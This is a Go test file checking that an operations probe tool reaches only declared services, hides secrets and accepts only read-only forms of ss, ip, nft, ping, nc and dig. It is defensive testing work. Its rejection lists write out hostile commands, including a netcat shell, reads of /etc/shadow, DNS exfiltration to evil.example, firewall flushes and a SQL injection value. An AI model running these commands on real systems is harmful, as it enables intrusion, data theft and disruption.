package probe

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"claudeops/internal/ops"
)

func TestLookReachesDeclaredAddressesOnly(t *testing.T) {
	t.Parallel()
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" || r.Method != http.MethodGet && r.Method != http.MethodHead {
			t.Errorf("%s with %v", r.Method, r.Header)
		}
		w.Header().Set("Set-Cookie", "a=secret")
		fmt.Fprintf(w, "you asked %s", r.URL.Path)
	})
	plain, secure := httptest.NewServer(handler), httptest.NewTLSServer(handler)
	defer plain.Close()
	defer secure.Close()
	other := httptest.NewServer(http.NotFoundHandler())
	defer other.Close()
	specs := []ops.ProbeSpec{
		{Service: "web", Type: "http", URL: plain.URL + "/health", Headers: map[string]string{"Authorization": "Bearer probe"}},
		{Service: "shop", Type: "http", URL: secure.URL, InsecureTLS: true},
		{Service: "cache", Type: "redis", URL: "redis://cache.test"},
		{Service: "db", Type: "postgres", URL: "postgres://app:dbpassword@db.test/app"},
		{Service: "dns", Type: "dns", Host: "localhost", Server: "192.0.2.53"},
	}
	p := New(Options{})
	host := strings.TrimPrefix(plain.URL, "http://")
	_, port, err := net.SplitHostPort(host)
	must(t, err)
	for _, c := range []struct {
		look      Look
		want, bad string
	}{
		{Look{What: "http", Target: "web"}, "you asked /health", ""},
		{Look{What: "http", Target: plain.URL + "/other?x=1"}, "you asked /other", ""},
		{Look{What: "head", Target: plain.URL}, "200 OK", ""},
		{Look{What: "http", Target: "shop"}, "you asked /", ""},
		{Look{What: "tls", Target: "shop"}, "not trusted", ""},
		{Look{What: "tcp", Target: host}, "open", ""},
		{Look{What: "http", Target: other.URL}, "", "declares"},
		{Look{What: "http", Target: "https://example.org/"}, "", "declares"},
		{Look{What: "http", Target: "cache"}, "", "declares"},
		{Look{What: "tcp", Target: "localhost:1"}, "", "declares"},
		{Look{What: "redis", Target: "cache", Query: "PING"}, "", "look cannot show"},
		{Look{What: "sql", Target: "db", Query: "SELECT 1"}, "", "look cannot show"},
		{Look{}, "", "the queries are db order id=INTEGER, cache memory"},
		{Look{What: "query", Target: "db", Query: "SELECT 1"}, "", "the queries are db order id=INTEGER, cache memory"},
		{Look{What: "query", Target: "cache", Query: "order"}, "", "there is no query"},
		{Look{What: "query", Target: "web", Query: "order"}, "", "there is no query"},
		{Look{What: "query", Target: "db", Query: "order"}, "", "give id=INTEGER"},
		{Look{What: "query", Target: "db", Query: "order", Params: map[string]string{"id": "1 OR 1=1"}}, "", "give id=INTEGER"},
		{Look{What: "query", Target: "db", Query: "order", Params: map[string]string{"id": "1", "x": "2"}}, "", `it has no parameter "x"`},
		{Look{What: "ping", Target: "example.org"}, "", "declares"},
		{Look{What: "dns", Target: "evil.example"}, "", "declares"},
		{Look{What: "shell", Target: "web"}, "", "look cannot show"},
		{Look{What: "command", Argv: []string{"sh", "-c", "id"}}, "", "no program that looks"},
		{Look{What: "command", Argv: []string{"nc", "-z", "127.0.0.1", "1"}}, "", "declares"},
		{Look{What: "command", Argv: []string{"nc", "-z", "127.0.0.1", port, "1"}}, "", "declares"},
		{Look{What: "command", Argv: []string{"ping", "-c", "1", "example.org"}}, "", "declares"},
		{Look{What: "command", Argv: []string{"dig", "+short", "data.evil.example"}}, "", "declares"},
		{Look{What: "command", Argv: []string{"dig", "@10.0.0.1", "localhost"}}, "", "name server"},
		{Look{What: "command", Argv: []string{"dig", "-f", "/etc/hosts"}}, "", "not permitted in this form"},
		{Look{What: "command", Argv: []string{"ping"}}, "", "not permitted in this form"},
		{Look{What: "command", Argv: []string{"dig", "http://localhost/data.evil.example"}}, "", "not permitted in this form"},
		{Look{What: "command", Argv: []string{"dig", "localhost:data.evil.example"}}, "", "declares"},
		{Look{What: "command", Argv: []string{"nc", host, port}}, "", "not permitted in this form"},
		{Look{What: "command", Argv: []string{"nc", "-zv", "-w", "2", "127.0.0.1", port}}, "", ""},
		{Look{What: "command"}, "", "no program that looks"},
	} {
		env := ops.Environment{Probes: specs}
		env.Policy.Inventory.Services = []ops.Service{
			{Name: "db", Queries: []ops.Query{{Name: "order", Run: []string{"SELECT :id"}, Params: map[string]string{"id": "integer"}}}},
			{Name: "cache", Queries: []ops.Query{{Name: "memory", Run: []string{"INFO", "memory"}}}},
		}
		got, err := p.Look(t.Context(), env, c.look)
		switch {
		case c.bad == "" && (err != nil || !strings.Contains(got, c.want)):
			t.Errorf("%+v: %q, %v", c.look, got, err)
		case c.bad != "" && (err == nil || !strings.Contains(err.Error(), c.bad)):
			t.Errorf("%+v: %q, %v", c.look, got, err)
		}
		if err != nil {
			got += err.Error()
		}
		if strings.Contains(got, "secret") || strings.Contains(got, "dbpassword") || strings.Contains(got, "Bearer") {
			t.Errorf("%+v shows %q", c.look, got)
		}
	}
}

// What runs outside of a session is one of a few forms, whatever a judge thinks of it.
func TestLookRunsWhatInspectsTheHost(t *testing.T) {
	t.Parallel()
	p := New(Options{})
	for _, l := range []Look{
		{What: "sockets"},
		{What: "routes"},
		{What: "command", Argv: []string{"ss", "-tln", "sport = :1 or sport = :https"}},
		{What: "command", Argv: []string{"ip", "-br", "-4", "addr", "show", "dev", "lo"}},
	} {
		got, err := p.Look(t.Context(), ops.Environment{}, l)
		if err != nil || got == "" {
			t.Errorf("%+v: %q, %v", l, got, err)
		}
	}
	specs := []ops.ProbeSpec{{Service: "web", Type: "http", URL: "http://ie01/"}, {Service: "dns", Type: "dns", Host: "ie01", Server: "192.0.2.53"}}
	for _, line := range []string{
		"ss", "ss -s", "ss -tlnp --no-header", "ss -tn state established ( dport = :443 or sport = :80 )", "ss -A tcp", "ss -tn dst 10.0.0.1:80",
		"ip a", "ip addr s", "ip -br link", "ip -s -s link show dev br-0a1b", "ip route get 1.1.1.1", "ip neigh", "ip rule list", "ip -6 route show default",
		"nft list ruleset", "nft -a list table inet filter", "ping -c 1 ie01", "ping ie01 -c1 -W 2", "ping6 -c 3 -i 1 ie01",
		"nc -z -w 2 ie01 80", "nc -vz ie01 80", "nc -zvw2 ie01 80", "dig +short ie01", "dig @192.0.2.53 ie01 MX +noall +answer +time=2", "dig -t AAAA ie01",
	} {
		if got, err := plainForm(specs, strings.Fields(line)); err != nil || strings.Join(got, " ") != line {
			t.Errorf("%q: %q, %v", line, got, err)
		}
	}
	for _, line := range []string{
		"ss -K", "ss --kill dst 1.1.1.1", "ss -tKn", "ss -D /etc/cron.d/x", "ss --diag=/etc/x", "ss -F /etc/shadow", "ss -N other", "ss dst data.evil.example",
		"ss -tn dst data.evil.example:80", "ss -E", "ip link set lo down", "ip addr add 192.0.2.1 dev lo", "ip a flush dev lo", "ip -b /etc/x",
		"ip -batch /etc/x", "ip netns exec x sh", "ip -n x a", "ip vrf exec x sh", "ip route add default", "ip l s lo down", "ip xfrm state list",
		"nft flush ruleset", "nft -f /etc/x", "nft list ruleset; flush ruleset", "nft list ruleset ; flush ruleset",
		"nft list ruleset -f /etc/x", "nft -i", "ping -f ie01", "ping -c 1 ie01 evil.example", "ping -p 6162 ie01", "ping -i 0 ie01", "ping -I /etc/x ie01",
		"nc -e /bin/sh ie01 80", "nc -ze /bin/sh ie01 80", "nc -lz 80", "nc -z -x evil:1 ie01 80", "nc -zu ie01 80", "nc -z -s 1.1.1.1 ie01 80", "nc -zc id ie01 80",
		"nc -z http://ie01/x.evil.example 80", "nc ie01 80", "dig -f /etc/shadow", "dig -k /etc/x ie01", "dig +ednsopt=100:616263 ie01", "dig +https=/x ie01",
		"dig ie01 x.evil.example", "dig http://ie01/x.evil.example", "dig -x 1.1.1.1", "dig ie01 AXFR", "dig -p 80 ie01", "dig", "lsof -i", "sh -c id", "/bin/ss", "env ss",
	} {
		if got, err := plainForm(specs, strings.Split(line, " ")); err == nil {
			t.Errorf("%q runs as %q", line, got)
		}
	}
}
